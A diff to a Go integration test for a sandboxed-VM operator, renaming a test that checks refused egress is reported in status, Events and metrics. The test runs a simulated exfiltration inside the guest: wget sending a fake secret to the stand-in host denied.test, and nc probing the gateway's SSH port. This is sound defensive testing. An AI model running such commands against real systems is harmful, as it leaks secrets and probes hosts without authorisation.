@@ -14,18 +14,18 @@ import (
 	"botbottle.dev/bottle-operator/test/story"
 )
 
-// A guest that tries what it may not is told on: the hosts that its bundle
-// denied in the status, what the wall dropped in an Event and a metric.
-func TestWhatIsRefusedIsTold(t *testing.T) {
+// Refused traffic is reported: hosts that the bundle denied are in the status, and
+// packets that the wall dropped are in an Event and a metric.
+func TestRefusedTrafficIsReported(t *testing.T) {
 	t.Parallel()
 	c := connect(t)
-	b := on(node1, c.Namespace(t), "refused", "refused")
+	b := bottleOn(node1, c.Namespace(t), "refused", "refused")
 	c.Apply(t, b)
-	c.WaitRuns(t, b)
+	c.WaitRunning(t, b)
 	const secret = "s3cr3t-in-a-path-77a1"
 	c.TryExec(t, node1, "smolvm", "machine", "exec", "--name", story.ID(b), "--",
 		"sh", "-c", "wget -qO- http://denied.test/"+secret+"?q="+secret+"; nc -w 1 "+b.Status.Network.Gateway+" 22 </dev/null; true")
-	c.WaitFor(t, b, "to say what its bundle denied", func() bool {
+	c.WaitFor(t, b, "to list what its bundle denied", func() bool {
 		return b.Status.Egress != nil && slices.Contains(b.Status.Egress.RecentDenials, "denied.test:80")
 	})
 	c.Eventually(t, "an Event EgressRefused that names the gateway", func() (string, bool) {
@@ -40,5 +40,5 @@ func TestWhatIsRefusedIsTold(t *testing.T) {
 	if i := strings.Index(metrics, want); i < 0 || strings.HasPrefix(metrics[i+len(want):], "0\n") {
 		t.Errorf("metrics: got no %s above 0", want)
 	}
-	c.SecretNowhereIn(t, b, secret)
+	c.WantNotExposed(t, b, secret)
 }
